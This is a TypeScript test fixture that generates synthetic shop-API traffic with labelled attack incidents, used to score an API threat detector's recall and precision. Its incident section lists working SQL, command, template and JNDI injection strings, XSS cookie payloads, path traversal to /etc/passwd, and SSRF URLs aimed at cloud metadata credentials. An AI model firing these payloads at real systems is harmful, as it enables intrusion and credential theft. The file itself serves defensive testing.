/**
 * A seeded generator of normal shop-API traffic with labelled incidents of every detection
 * category injected, for accuracy tests (vitest) and the accuracy/throughput bench. Also the
 * compact exchange form the per-rule fixtures (test/rules/<id>/input.jsonl) are written in.
 */
import { emptyExchange, splitUrl, type Header, type StoredExchange } from '../../../src/core/model/exchange.ts';
import type { ApiSpec, Category, Finding } from '../../../src/core/detect/types.ts';

/** One exchange as fixtures write it: only what matters, everything else defaulted. */
export interface CompactExchange {
  id?: number;
  /** ISO-8601 or epoch ms. */
  time: string | number;
  method?: string;
  url: string;
  /** As a log's request line gives it (`HTTP/1.1`, `HTTP/1.2`); HTTP/1.1 when absent. */
  httpVersion?: string;
  status?: number | null;
  ip?: string | null;
  principal?: string | null;
  reqHeaders?: Record<string, string>;
  /** A string is sent as is; anything else is JSON-encoded. */
  reqBody?: unknown;
  respHeaders?: Record<string, string>;
  respBody?: unknown;
  duration?: number;
  responseSize?: number;
  /** What a reader keeps beyond the model (a log's raw request line, an error-log zone…). */
  extra?: Record<string, string | number | boolean>;
}

const enc = new TextEncoder();
function body(b: unknown): Uint8Array | null {
  if (b === undefined || b === null) return null;
  return enc.encode(typeof b === 'string' ? b : JSON.stringify(b));
}
function headers(h: Record<string, string> | undefined, json: boolean): Header[] {
  const out: Header[] = Object.entries(h ?? {});
  if (json && !out.some(([n]) => n.toLowerCase() === 'content-type')) out.push(['content-type', 'application/json']);
  return out;
}

export function toStored(c: CompactExchange, id: number): StoredExchange {
  const e = emptyExchange();
  Object.assign(e, splitUrl(c.url));
  e.time = typeof c.time === 'number' ? c.time : Date.parse(c.time);
  e.method = c.method ?? 'GET';
  if (c.httpVersion !== undefined) e.httpVersion = c.httpVersion;
  e.status = c.status === undefined ? 200 : c.status;
  e.requestHeaders = headers(c.reqHeaders, c.reqBody !== undefined && typeof c.reqBody !== 'string');
  e.requestBody = body(c.reqBody);
  e.responseHeaders = headers(c.respHeaders, c.respBody !== undefined && typeof c.respBody !== 'string');
  e.responseBody = body(c.respBody);
  e.durationMs = c.duration ?? null;
  e.responseSize = c.responseSize ?? null;
  e.clientIp = c.ip ?? null;
  e.extra = c.extra ?? null;
  return { ...e, id: c.id ?? id, sourceId: 1, principal: c.principal ?? null, principalKind: c.principal ? 'jwt' : null, ip: c.ip ?? null };
}

// ---------- seeded randomness ----------

export function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

// ---------- the labelled traffic ----------

export interface Label {
  category: Category;
  /** Actor-level incidents: the attack's request ids. */
  ids: Set<number>;
  /** Endpoint-level incidents (shadow, zombie, misconfiguration, exposure): where it is. */
  endpoint?: { host: string; method?: string; path?: string };
  what: string;
}

export interface Generated {
  exchanges: StoredExchange[];
  labels: Label[];
  spec: ApiSpec;
}

const HOST = 'api.shop.example';
const LEGACY = 'legacy.shop.example';
const WORDS = ['lamp', 'chair', 'desk', 'red shoes', 'coffee mug', 'garden hose', 'usb cable', "children's books", 'rock & roll vinyl', 'tea (green)', 'socks; wool', 'o\'reilly guide'];
const NOTES = ['Leave it at the door', "Don't ring the bell; the baby sleeps", 'Deliver after 5pm & call first', 'Gift wrap please!', 'Fragile (glass)', 'c/o reception, 2nd floor'];
const UA = ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36', 'ShopApp/4.2 (iPhone; iOS 17.1)', 'ShopApp/4.2 (Android 14; Pixel 8)', 'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15'];

function b64url(o: unknown): string {
  return Buffer.from(JSON.stringify(o)).toString('base64url');
}
export function jwt(sub: string, role: string): string {
  return `${b64url({ alg: 'HS256', typ: 'JWT' })}.${b64url({ sub, role, iat: 1700000000 })}.c2lnbmF0dXJl`;
}

export const SHOP_SPEC: ApiSpec = {
  operations: [
    ['POST', '/api/v1/login'], ['GET', '/api/v1/products'], ['GET', '/api/v1/products/{productId}'], ['GET', '/api/v1/search'],
    ['POST', '/api/v2/search'], ['GET', '/api/v2/users/me'], ['PATCH', '/api/v2/users/me'], ['GET', '/api/v2/users/{userId}/profile'],
    ['GET', '/api/v2/orders'], ['POST', '/api/v2/orders'], ['GET', '/api/v2/orders/{orderId}'], ['DELETE', '/api/v2/orders/{orderId}'],
    ['GET', '/api/v2/orders/{orderId}/invoice'], ['GET', '/api/v2/reports/export'], ['POST', '/api/v2/otp/verify'], ['POST', '/api/v2/webhooks'],
    ['GET', '/api/v2/admin/users'], ['DELETE', '/api/v2/admin/users/{userId}'], ['GET', '/api/v2/account'], ['GET', '/api/v2/support/customers/{customerId}'],
    ['GET', '/api/v2/users/{userId}/payment-methods'], ['GET', '/api/v2/users/{userId}/cards'], ['GET', '/api/v1/users/{userId}/profile'], ['GET', '/status'],
  ].map(([method, pathTemplate]) => ({ method, pathTemplate, deprecated: pathTemplate === '/api/v1/search' })),
};

interface User {
  sub: string;
  role: string;
  auth: string;
  ip: string;
  ua: string;
  orders: number[];
  userId: number;
}

export interface GenerateOptions {
  seed: number;
  users: number;
  /** Traffic span in ms. */
  durationMs: number;
  /** Inject the labelled incidents (false = only normal traffic). */
  incidents: boolean;
  start?: number;
}

/**
 * Normal users log in, browse the catalogue, search, order, read their orders and profile;
 * admins administer. Incidents are injected at random times, each with its label.
 */
export function generateTraffic(opts: GenerateOptions): Generated {
  const rand = rng(opts.seed);
  const pick = <T>(a: readonly T[]): T => a[Math.floor(rand() * a.length)];
  const int = (lo: number, hi: number) => lo + Math.floor(rand() * (hi - lo + 1));
  const start = opts.start ?? Date.UTC(2026, 0, 12, 8, 0, 0);
  const out: (CompactExchange & { label?: number })[] = [];
  const labels: Label[] = [];
  let nextOrder = 5000;
  const hsts = { 'strict-transport-security': 'max-age=31536000', 'x-content-type-options': 'nosniff' };
  const add = (c: CompactExchange, label?: number) => {
    const respHeaders = c.url.startsWith(`https://${HOST}`) ? { ...hsts, ...c.respHeaders } : c.respHeaders;
    out.push({ ...c, respHeaders, label });
  };

  const users: User[] = [];
  for (let i = 0; i < opts.users; i++) {
    const admin = i < Math.max(2, Math.floor(opts.users / 40));
    const sub = admin ? `admin-${i}` : `user-${i}`;
    users.push({ sub, role: admin ? 'admin' : 'user', auth: `Bearer ${jwt(sub, admin ? 'admin' : 'user')}`, ip: `198.51.${100 + (i % 50)}.${1 + (i % 250)}`, ua: pick(UA), orders: [], userId: 1000 + i });
  }
  const req = (u: User, t: number, method: string, path: string, extra: Partial<CompactExchange> = {}): CompactExchange => ({
    time: t,
    method,
    url: `https://${HOST}${path}`,
    ip: u.ip,
    principal: u.sub,
    reqHeaders: { authorization: u.auth, 'user-agent': u.ua, accept: 'application/json', ...extra.reqHeaders },
    duration: int(20, 180),
    ...extra,
  });

  // ----- normal sessions -----
  for (const u of users) {
    let t = start + Math.floor(rand() * opts.durationMs * 0.1);
    while (t < start + opts.durationMs) {
      if (rand() < 0.03) add({ time: t, method: 'POST', url: `https://${HOST}/api/v1/login`, ip: u.ip, reqHeaders: { 'user-agent': u.ua }, reqBody: { username: `${u.sub}@shop.example`, password: 'wrong' }, status: 401, respBody: { error: 'invalid credentials' } });
      t += int(2000, 8000);
      add({ time: t, method: 'POST', url: `https://${HOST}/api/v1/login`, ip: u.ip, reqHeaders: { 'user-agent': u.ua }, reqBody: { username: `${u.sub}@shop.example`, password: 'secret' }, status: 200, respBody: { token: 'opaque' } });
      add(req(u, (t += int(500, 2000)), 'GET', '/api/v2/users/me', { respBody: { id: u.userId, full_name: u.sub, email: `${u.sub}@shop.example`, phone: '+1 555 0100', address: '1 Main St' } }));
      const steps = int(5, 25);
      for (let s = 0; s < steps; s++) {
        t += int(3000, 20000);
        const r = rand();
        if (r < 0.3) add(req(u, t, 'GET', `/api/v1/products?page=${int(1, 20)}&limit=20`, { respBody: { items: [{ id: int(1, 900), name: pick(WORDS), price: 9.5 }] } }));
        else if (r < 0.55) add(req(u, t, 'GET', `/api/v1/products/${int(1, 900)}`, { respBody: { id: int(1, 900), name: pick(WORDS), price: 12 } }));
        else if (r < 0.65) add(req(u, t, 'GET', `/api/v1/search?q=${encodeURIComponent(pick(WORDS))}`, { respBody: { items: [] } }));
        else if (r < 0.72) {
          const id = nextOrder++;
          u.orders.push(id);
          add(req(u, t, 'POST', '/api/v2/orders', { reqBody: { productId: int(1, 900), quantity: int(1, 3), note: pick(NOTES) }, status: 201, respBody: { id, status: 'created', total: 20 } }));
        } else if (r < 0.8) add(req(u, t, 'GET', '/api/v2/orders', { respBody: { items: u.orders.map((id) => ({ id, total: 20 })) } }));
        else if (r < 0.88 && u.orders.length) add(req(u, t, 'GET', `/api/v2/orders/${pick(u.orders)}`, { respBody: { id: u.orders[0], total: 20 } }));
        else if (r < 0.9) add(req(u, t, 'PATCH', '/api/v2/users/me', { reqBody: { full_name: `${u.sub} x`, phone: '+1 555 0101' }, respBody: { ok: true } }));
        else if (r < 0.93) add(req(u, t, 'GET', `/api/v2/users/${1000 + int(0, opts.users - 1)}/profile`, { respBody: { id: 1, full_name: 'someone', avatar: 'a.png' } }));
        else if (r < 0.95 && u.orders.length > 1) add(req(u, t, 'DELETE', `/api/v2/orders/${u.orders.pop()}`, { status: 204 }));
        else if (r < 0.96) add(req(u, t, 'POST', '/api/v2/webhooks', { reqBody: { url: `https://hooks.partner${int(1, 9)}.example/notify` }, status: 201, respBody: { ok: true } }));
        else if (r < 0.97) add(req(u, t, 'GET', '/api/v2/account', { reqHeaders: { origin: `https://${HOST.replace('api.', 'www.')}` }, respHeaders: { 'access-control-allow-origin': `https://www.shop.example`, 'access-control-allow-credentials': 'true' }, respBody: { plan: 'basic' } }));
        else if (u.role === 'admin') add(req(u, t, 'GET', '/api/v2/admin/users', { respBody: { items: [] } }));
        else add(req(u, t, 'GET', `/api/v2/users/${u.userId}/payment-methods`, { respBody: { cards: [{ brand: 'visa', last4: '4242', number: '**** **** **** 4242' }] } }));
      }
      t += int(600_000, 3_600_000);
    }
  }
  // A monitor polling /status and a few anonymous catalogue readers.
  for (let t = start; t < start + opts.durationMs; t += 30_000) add({ time: t, url: `https://${HOST}/status`, ip: '10.0.0.5', reqHeaders: { 'user-agent': 'kube-probe/1.29' }, respBody: { ok: true } });

  if (opts.incidents) injectIncidents(add, labels, users, rand, start, opts.durationMs, () => nextOrder++);

  // Sort by time (stable on insertion for ties), then number.
  const order = out.map((c, i) => ({ c, i })).sort((a, b) => Number(a.c.time) - Number(b.c.time) || a.i - b.i);
  const exchanges: StoredExchange[] = [];
  order.forEach(({ c }, i) => {
    const e = toStored(c, i + 1);
    exchanges.push(e);
    if (c.label !== undefined) labels[c.label].ids.add(e.id);
  });
  return { exchanges, labels, spec: SHOP_SPEC };
}

type Add = (c: CompactExchange, label?: number) => void;

function injectIncidents(add: Add, labels: Label[], users: User[], rand: () => number, start: number, span: number, newOrder: () => number): void {
  const int = (lo: number, hi: number) => lo + Math.floor(rand() * (hi - lo + 1));
  const when = () => start + Math.floor(span * (0.1 + rand() * 0.8));
  const label = (category: Category, what: string, endpoint?: Label['endpoint']) => labels.push({ category, what, ids: new Set(), endpoint }) - 1;
  const attackerIp = (n: number) => `203.0.113.${n}`;
  const chrome = UA[0];
  const u = (path: string, host = HOST) => `https://${host}${path}`;
  const victim = users[users.length - 1];
  const thief = users[users.length - 2];
  const intruder = users[users.length - 3];

  // credential stuffing from one IP
  let l = label('credential-stuffing', 'one IP, 40 usernames');
  let t = when();
  for (let i = 0; i < 40; i++) add({ time: (t += int(1000, 4000)), method: 'POST', url: u('/api/v1/login'), ip: attackerIp(10), reqHeaders: { 'user-agent': 'python-requests/2.31' }, reqBody: { username: `leaked${i}@mail.example`, password: `Pass${i}!` }, status: i === 17 ? 200 : 401 }, l);
  // distributed stuffing
  l = label('credential-stuffing', '60 IPs, 90 usernames');
  t = when();
  for (let i = 0; i < 90; i++) add({ time: (t += int(2000, 6000)), method: 'POST', url: u('/api/v1/login'), ip: `192.0.2.${10 + (i % 60)}`, reqHeaders: { 'user-agent': chrome }, reqBody: { username: `combo${i}@mail.example`, password: 'Summer2024!' }, status: 401 }, l);
  // brute force on one account, and OTP guessing
  l = label('brute-force', 'password guessing on one account');
  t = when();
  for (let i = 0; i < 25; i++) add({ time: (t += int(2000, 6000)), method: 'POST', url: u('/api/v1/login'), ip: attackerIp(11), reqHeaders: { 'user-agent': chrome }, reqBody: { username: `${victim.sub}@shop.example`, password: `guess${i}` }, status: 401 }, l);
  l = label('brute-force', 'OTP guessing');
  t = when();
  for (let i = 0; i < 15; i++) add({ time: (t += int(1000, 3000)), method: 'POST', url: u('/api/v2/otp/verify'), ip: intruder.ip, principal: intruder.sub, reqHeaders: { authorization: intruder.auth, 'user-agent': intruder.ua }, reqBody: { code: String(100000 + i) }, status: 401 }, l);
  // BOLA: object walk, and reading objects issued to someone else
  l = label('bola', 'order id walk');
  t = when();
  for (let i = 0; i < 40; i++) add({ time: (t += int(500, 2000)), method: 'GET', url: u(`/api/v2/orders/${4000 + i}`), ip: thief.ip, principal: thief.sub, reqHeaders: { authorization: thief.auth, 'user-agent': thief.ua }, status: i % 4 === 0 ? 200 : 403 }, l);
  l = label('bola', 'foreign orders read');
  t = when();
  const owner = users[Math.floor(users.length / 2)];
  const stolen: number[] = [];
  for (let i = 0; i < 3; i++) {
    const id = newOrder();
    stolen.push(id);
    add({ time: (t += 5000), method: 'POST', url: u('/api/v2/orders'), ip: owner.ip, principal: owner.sub, reqHeaders: { authorization: owner.auth, 'user-agent': owner.ua }, reqBody: { productId: 3, quantity: 1, note: 'x' }, status: 201, respBody: { id, status: 'created', total: 20 } });
  }
  for (const id of stolen) add({ time: (t += int(60_000, 120_000)), method: 'GET', url: u(`/api/v2/orders/${id}`), ip: intruder.ip, principal: intruder.sub, reqHeaders: { authorization: intruder.auth, 'user-agent': intruder.ua }, status: 200, respBody: { id, total: 20 } }, l);
  // BFLA: a user calling admin functions
  l = label('bfla', 'user calls admin functions');
  t = when();
  add({ time: (t += 1000), method: 'GET', url: u('/api/v2/admin/users'), ip: intruder.ip, principal: intruder.sub, reqHeaders: { authorization: intruder.auth, 'user-agent': intruder.ua }, status: 200, respBody: { items: [] } }, l);
  add({ time: t + 4000, method: 'DELETE', url: u(`/api/v2/admin/users/${victim.userId}`), ip: intruder.ip, principal: intruder.sub, reqHeaders: { authorization: intruder.auth, 'user-agent': intruder.ua }, status: 204 }, l);
  // Deleting another user's account object is also object-level: a second, overlapping label.
  labels.push({ category: 'bola', what: 'admin delete of a user object owned by someone else', ids: labels[l].ids });
  // scraping: walking the catalogue at ~3 requests/s
  l = label('scraping', 'catalogue harvest');
  t = when();
  for (let i = 1; i <= 400; i++) add({ time: (t += int(200, 450)), url: u(`/api/v1/products/${i}`), ip: attackerIp(20), reqHeaders: { 'user-agent': chrome }, respBody: { id: i, name: 'x', price: 1 } }, l);
  // injection: one attacker per class, a handful of payloads each
  const payloads: [string, (i: number) => Partial<CompactExchange>][] = [
    ['sqli', (i) => ({ url: u(`/api/v1/search?q=${encodeURIComponent(["' OR '1'='1", "lamp' UNION SELECT username,password FROM users--", "1; DROP TABLE orders", "x' AND SLEEP(5)--"][i % 4])}`) })],
    ['xss', (i) => ({ method: 'POST', url: u('/api/v2/orders'), reqBody: { productId: 1, quantity: 1, note: ['<script>alert(1)</script>', '<img src=x onerror=alert(document.cookie)>', '%3Csvg%2Fonload%3Dalert(1)%3E'][i % 3] }, status: 201, respBody: { id: 1 } })],
    ['cmd', (i) => ({ url: u(`/api/v1/search?q=${encodeURIComponent(['lamp; cat /etc/passwd', 'x | id', '$(whoami)', '`uname -a`'][i % 4])}`) })],
    ['traversal', (i) => ({ url: u(['/api/v1/products/..%2f..%2f..%2fetc%2fpasswd', '/api/v1/products/%252e%252e%252fetc%252fpasswd', '/api/v1/search?q=../../../../windows/win.ini'][i % 3]), status: 404 })],
    ['ssti', (i) => ({ url: u(`/api/v1/search?q=${encodeURIComponent(['{{7*7}}', '${7*7}', "{{config.__class__.__init__.__globals__['os']}}"][i % 3])}`) })],
    ['jndi', () => ({ url: u('/api/v1/products'), reqHeaders: { 'user-agent': '${jndi:ldap://203.0.113.99:1389/a}', 'x-api-version': '${${lower:j}ndi:${lower:l}dap://x.example/a}' } })],
    ['nosqli', () => ({ method: 'POST', url: u('/api/v1/login'), reqBody: { username: 'admin@shop.example', password: { $ne: null } }, status: 401 })],
  ];
  payloads.forEach(([kind, make], n) => {
    const li = label('injection', kind);
    let ti = when();
    for (let i = 0; i < 6; i++) {
      const p = make(i);
      add({ time: (ti += int(2000, 10_000)), url: u('/'), ip: attackerIp(30 + n), respBody: { items: [] }, ...p, reqHeaders: { 'user-agent': chrome, ...p.reqHeaders } }, li);
    }
  });
  // SSRF
  l = label('ssrf', 'webhook to metadata and loopback');
  t = when();
  for (const url of ['http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'http://127.0.0.1:8080/admin', 'http://2130706433/', 'file:///etc/passwd', 'http://[::1]/'])
    add({ time: (t += 7000), method: 'POST', url: u('/api/v2/webhooks'), ip: thief.ip, principal: thief.sub, reqHeaders: { authorization: thief.auth, 'user-agent': thief.ua }, reqBody: { url }, status: 201, respBody: { ok: true } }, l);
  // mass assignment
  l = label('mass-assignment', 'role in profile update');
  t = when();
  add({ time: t, method: 'PATCH', url: u('/api/v2/users/me'), ip: intruder.ip, principal: intruder.sub, reqHeaders: { authorization: intruder.auth, 'user-agent': intruder.ua }, reqBody: { full_name: 'me', role: 'admin', isAdmin: true }, respBody: { ok: true } }, l);
  // sensitive data: full card numbers from one endpoint, and an over-sharing support endpoint
  l = label('sensitive-data-exposure', 'cards unmasked', { host: HOST, method: 'GET', path: '/api/v2/users/{id}/cards' });
  t = when();
  for (let i = 0; i < 3; i++) add({ time: (t += 30_000), url: u(`/api/v2/users/${victim.userId}/cards`), ip: victim.ip, principal: victim.sub, reqHeaders: { authorization: victim.auth, 'user-agent': victim.ua }, respBody: { cards: [{ brand: 'visa', number: '4111 1111 1111 1111', expiry: '12/29' }] } }, l);
  l = label('sensitive-data-exposure', 'support endpoint returns whole records', { host: HOST, method: 'GET', path: '/api/v2/support/customers/{id}' });
  t = when();
  for (let i = 0; i < 4; i++) {
    const admin = users[0];
    add({ time: (t += 40_000), url: u(`/api/v2/support/customers/${1000 + i}`), ip: admin.ip, principal: admin.sub, reqHeaders: { authorization: admin.auth, 'user-agent': admin.ua }, respBody: { id: 1000 + i, full_name: 'A B', email: 'a@b.example', phone: '1', address: 'x', city: 'y', zip: '1', date_of_birth: '1990-01-01', ssn_last4: '1234', salary: 1, gender: 'f', passport_number: 'X1' } }, l);
  }
  // resource consumption: page size, flood, expensive endpoint
  l = label('resource-consumption', 'limit=100000');
  t = when();
  for (let i = 0; i < 3; i++) add({ time: (t += 20_000), url: u('/api/v1/products?limit=100000'), ip: attackerIp(40), reqHeaders: { 'user-agent': chrome }, respBody: { items: [] } }, l);
  l = label('resource-consumption', 'POST search flood');
  t = when();
  for (let i = 0; i < 900; i++) add({ time: (t += int(30, 60)), method: 'POST', url: u('/api/v2/search'), ip: attackerIp(41), reqHeaders: { 'user-agent': chrome }, reqBody: { q: 'lamp' }, respBody: { items: [] } }, l);
  l = label('resource-consumption', 'export loop');
  t = when();
  for (let i = 0; i < 40; i++) add({ time: (t += int(1000, 2000)), url: u('/api/v2/reports/export'), ip: thief.ip, principal: thief.sub, reqHeaders: { authorization: thief.auth, 'user-agent': thief.ua }, duration: 2500, respBody: { rows: 1 } }, l);
  // credentials in URLs
  l = label('credential-in-url', 'api key in query');
  t = when();
  for (let i = 0; i < 4; i++) add({ time: (t += 60_000), url: u(`/api/v1/products?page=1&api_key=sk_live_51HxQ2eLkdIwYz8m4Tq9aBcD`), ip: attackerIp(50), reqHeaders: { 'user-agent': 'curl/8.4.0' }, respBody: { items: [] } }, l);
  // scanners: a named tool, and a path-guessing burst
  l = label('scanner', 'nikto');
  t = when();
  for (const p of ['/', '/.env', '/admin.php', '/.git/config', '/phpmyadmin/', '/server-status']) add({ time: (t += 500), url: u(p), ip: attackerIp(60), reqHeaders: { 'user-agent': 'Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:getinfo)' }, status: 404 }, l);
  l = label('scanner', 'forced browsing');
  t = when();
  for (let i = 0; i < 60; i++) add({ time: (t += int(100, 600)), url: u(`/${['backup', 'old', 'test', 'dev', 'api/v3', 'v0', 'beta', 'tmp'][i % 8]}/${['index', 'config', 'data', 'list', 'main'][i % 5]}${i}`), ip: attackerIp(61), reqHeaders: { 'user-agent': chrome }, status: 404 }, l);
  // shadow and zombie endpoints
  l = label('shadow-api', 'undocumented debug endpoint', { host: HOST, method: 'GET', path: '/api/v2/debug/config' });
  t = when();
  for (let i = 0; i < 3; i++) add({ time: (t += 90_000), url: u('/api/v2/debug/config'), ip: '10.0.0.9', reqHeaders: { 'user-agent': 'Go-http-client/1.1' }, respBody: { ok: true } }, l);
  l = label('zombie-api', 'v1 profile still served', { host: HOST, method: 'GET', path: '/api/v1/users/{id}/profile' });
  t = when();
  for (let i = 0; i < 5; i++) add({ time: (t += 100_000), url: u(`/api/v1/users/${1000 + i}/profile`), ip: '198.18.0.7', reqHeaders: { 'user-agent': 'ShopApp/1.0 (legacy)' }, respBody: { id: 1000 + i, full_name: 'x' } }, l);
  // Every normal search request is this zombie's traffic: the label is endpoint-level.
  label('zombie-api', 'deprecated search still served', { host: HOST, method: 'GET', path: '/api/v1/search' });
  // security misconfiguration: stack traces, reflected CORS, banners on the legacy host
  l = label('security-misconfiguration', 'stack trace in invoice', { host: HOST, method: 'GET', path: '/api/v2/orders/{id}/invoice' });
  t = when();
  for (let i = 0; i < 3; i++) add({ time: (t += 50_000), url: u(`/api/v2/orders/${stolen[i]}/invoice`), ip: owner.ip, principal: owner.sub, reqHeaders: { authorization: owner.auth, 'user-agent': owner.ua }, status: 500, respBody: 'java.lang.NullPointerException: invoice\n\tat com.shop.InvoiceService.render(InvoiceService.java:88)\n\tat com.shop.Api.invoice(Api.java:41)' }, l);
  l = label('security-misconfiguration', 'reflected CORS with credentials', { host: HOST, method: 'GET', path: '/api/v2/account' });
  t = when();
  add({ time: t, url: u('/api/v2/account'), ip: attackerIp(70), reqHeaders: { origin: 'https://evil.example', 'user-agent': chrome }, respHeaders: { 'access-control-allow-origin': 'https://evil.example', 'access-control-allow-credentials': 'true' }, respBody: { plan: 'basic' } }, l);
  l = label('security-misconfiguration', 'legacy host banner and plain HTTP', { host: LEGACY });
  label('shadow-api', 'the legacy host is not in the spec', { host: LEGACY });
  t = when();
  for (let i = 0; i < 5; i++) add({ time: (t += 20_000), url: `http://${LEGACY}/api/orders`, ip: victim.ip, principal: victim.sub, reqHeaders: { authorization: victim.auth }, respHeaders: { server: 'Apache/2.4.41 (Ubuntu)', 'x-powered-by': 'PHP/7.2.24' }, respBody: { items: [] } }, l);
}

// ---------- scoring ----------

export interface Score {
  category: Category;
  incidents: number;
  detected: number;
  findings: number;
  truePositives: number;
  recall: number;
  precision: number;
}

function overlaps(f: Finding, l: Label): boolean {
  if (l.category !== f.category) return false;
  if (l.endpoint) {
    if (f.endpoint.host !== l.endpoint.host) return false;
    if (l.endpoint.path && f.endpoint.path !== '*' && f.endpoint.path !== l.endpoint.path) return false;
    if (l.endpoint.method && f.endpoint.method !== '*' && f.endpoint.method !== l.endpoint.method) return false;
    return true;
  }
  return f.requestIds.some((id) => l.ids.has(id));
}

/** Per category: recall over labelled incidents, precision over findings. */
export function score(findings: Finding[], labels: Label[]): Score[] {
  const cats = [...new Set([...labels.map((l) => l.category), ...findings.map((f) => f.category)])].sort();
  return cats.map((category) => {
    const ls = labels.filter((l) => l.category === category);
    const fs = findings.filter((f) => f.category === category);
    const detected = ls.filter((l) => fs.some((f) => overlaps(f, l))).length;
    const tp = fs.filter((f) => ls.some((l) => overlaps(f, l))).length;
    return { category, incidents: ls.length, detected, findings: fs.length, truePositives: tp, recall: ls.length ? detected / ls.length : 1, precision: fs.length ? tp / fs.length : 1 };
  });
}
